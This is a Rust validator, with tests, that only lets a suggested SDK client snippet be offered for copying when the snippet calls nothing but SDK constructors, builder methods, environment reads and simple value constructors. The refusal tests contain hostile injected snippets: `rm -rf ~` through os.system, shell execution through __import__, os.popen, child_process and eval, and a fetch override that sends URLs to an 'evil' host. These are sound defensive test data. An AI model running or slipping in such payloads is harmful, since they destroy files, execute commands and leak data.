//! Which corrected code snippets may be offered: an SDK client's construction or call with its
//! arguments, and nothing else that runs. A snippet is repeated from the paste with the fixes
//! applied and offered with a Copy button; a paste from a share link is someone else's, so a
//! snippet that calls anything but the SDK, a builder method, an environment read or a small
//! set of value constructors (`httpx.Timeout(…)`, `Duration.ofSeconds(…)`), or that holds a
//! lambda or an interpolated string (f-strings, `${…}`), is not offered: the finding's steps
//! still say what to change.

/// Callees allowed whatever comes before them: the SDKs' constructors and entry points.
fn sdk_callee(path: &str) -> bool {
    let last = path.rsplit(['.', ':']).next().unwrap_or(path);
    last.ends_with("OpenAI")
        || last.ends_with("Anthropic")
        || last.ends_with("Compatible")
        || last == "builder"
        || last == "build"
        || last == "NewClient"
        // LiteLLM's entry points, CrewAI's LLM.
        || matches!(last, "completion" | "acompletion" | "LLM")
        || ["Generation.call", "Conversation.call", "Application.call"]
            .iter()
            .any(|m| path.ends_with(m))
        || (last == "create"
            && [
                ".completions.create",
                ".messages.create",
                ".responses.create",
            ]
            .iter()
            .any(|m| path.ends_with(m)))
        || (path.starts_with("option.With") && !path[7..].contains('.'))
}

/// Reads of the environment and constructors of plain values.
const VALUE_CALLS: &[&str] = &[
    "os.getenv",
    "getenv",
    "os.environ.get",
    "System.getenv",
    "os.Getenv",
    "env::var",
    "std::env::var",
    "str",
    "int",
    "float",
    "httpx.Timeout",
    "Duration.ofSeconds",
    "Duration.ofMillis",
    "Duration.ofMinutes",
    "time.Duration",
    "String",
    "Number",
];

/// Whether `code` runs nothing but the SDK call it configures.
pub(super) fn inert(code: &str) -> bool {
    let b = code.as_bytes();
    let builder = code.contains(".builder()");
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        match c {
            b'"' | b'\'' | b'`' => {
                // A string literal; a prefix letter right before it (`f"…"`) was read as a path.
                let prefix = code[..i]
                    .bytes()
                    .rev()
                    .take_while(|c| c.is_ascii_alphabetic())
                    .map(|c| c.to_ascii_lowercase())
                    .collect::<Vec<u8>>();
                let formatted = prefix.contains(&b'f');
                let triple = b.get(i..i + 3).is_some_and(|t| t == [c, c, c]);
                let q = if triple { 3 } else { 1 };
                let mut j = i + q;
                let mut closed = false;
                while j < b.len() {
                    if b[j] == b'\\' {
                        j += 2;
                        continue;
                    }
                    if b[j] == c && (!triple || b.get(j..j + 3).is_some_and(|t| t == [c, c, c])) {
                        closed = true;
                        break;
                    }
                    if (c == b'`' && b[j] == b'$' && b.get(j + 1) == Some(&b'{'))
                        || (formatted && b[j] == b'{' && b.get(j + 1) != Some(&b'{'))
                    {
                        return false; // an interpolation runs code
                    }
                    if formatted && b[j] == b'{' {
                        j += 2; // `{{` is a literal brace
                        continue;
                    }
                    j += 1;
                }
                if !closed {
                    return false;
                }
                i = j + q;
            }
            b'#' if !builder => {
                // A Python comment, to the end of the line.
                i += code[i..].find('\n').unwrap_or(code.len() - i);
            }
            _ if c.is_ascii_alphabetic() || c == b'_' => {
                let start = i;
                while i < b.len()
                    && (b[i].is_ascii_alphanumeric()
                        || matches!(b[i], b'_' | b'.')
                        || (b[i] == b':' && b.get(i + 1) == Some(&b':')))
                {
                    i += if b[i] == b':' { 2 } else { 1 };
                }
                let path = code[start..i].trim_end_matches('.');
                if matches!(path, "lambda" | "await" | "yield" | "function" | "async") {
                    return false;
                }
                let mut k = i;
                while matches!(b.get(k), Some(b' ' | b'\t')) {
                    k += 1;
                }
                if b.get(k) == Some(&b'(') {
                    let method = start > 0 && b[start - 1] == b'.';
                    let ok = sdk_callee(path)
                        || VALUE_CALLS.contains(&path)
                        || (builder && method && !path.contains('.'));
                    if !ok {
                        return false;
                    }
                }
            }
            b'=' if b.get(i + 1) == Some(&b'>') => return false, // an arrow function
            _ => i += 1,
        }
    }
    true
}

#[cfg(test)]
mod tests {
    use super::inert;

    #[test]
    fn sdk_calls_with_literal_arguments_are_offered() {
        for ok in [
            "client = OpenAI(api_key=\"sk-…\", base_url=\"https://h/v1\")",
            "client = OpenAI(api_key=os.getenv(\"DASHSCOPE_API_KEY\"), base_url='https://h/v1', timeout=httpx.Timeout(30.0))",
            "const client = new OpenAI({ apiKey: process.env.KEY, baseURL: 'https://h/v1' });",
            "llm = ChatOpenAI(model=\"qwen-plus\", openai_api_base=\"https://h/v1\")",
            "resp = client.chat.completions.create(model=\"qwen-plus\", messages=[{\"role\": \"user\", \"content\": \"hi\"}])",
            "OpenAiChatModel.builder().apiKey(System.getenv(\"K\")).baseUrl(\"https://h/v1\").timeout(Duration.ofSeconds(60)).build()",
            "client := openai.NewClient(option.WithAPIKey(os.Getenv(\"K\")), option.WithBaseURL(\"https://h/v1\"))",
            "response = dashscope.Generation.call(model='qwen-plus', prompt='f{x}')",
            "client = OpenAI(base_url=\"https://h/v1\")  # was /chat/completions",
            "response = litellm.completion(model=\"hosted_vllm/q\", api_base=\"http://h:8000/v1\", messages=[{\"role\": \"user\", \"content\": \"hi\"}])",
            "llm = LLM(model=\"openai/my-model\", base_url=\"http://localhost:4000/\")",
        ] {
            assert!(inert(ok), "{ok}");
        }
    }

    #[test]
    fn anything_else_that_runs_is_refused() {
        for bad in [
            "import os; os.system(\"rm -rf ~\"); client = OpenAI(base_url=\"https://h/v1\")",
            "client = OpenAI(base_url=\"https://h/v1\", http_client=__import__('os').system('id'))",
            "client = OpenAI(base_url=f\"https://{os.popen('id').read()}/v1\")",
            "const c = new OpenAI({ baseURL: `https://${require('child_process').execSync('id')}` })",
            "client = OpenAI(base_url=\"https://h/v1\", default_headers=(lambda: 1)())",
            "const c = new OpenAI({ fetch: (u) => fetch('https://evil/' + u) })",
            "client = OpenAI(base_url=eval(\"'https://h'\"))",
            "client = OpenAI(base_url=\"https://h/v1)",
        ] {
            assert!(!inert(bad), "{bad}");
        }
    }
}
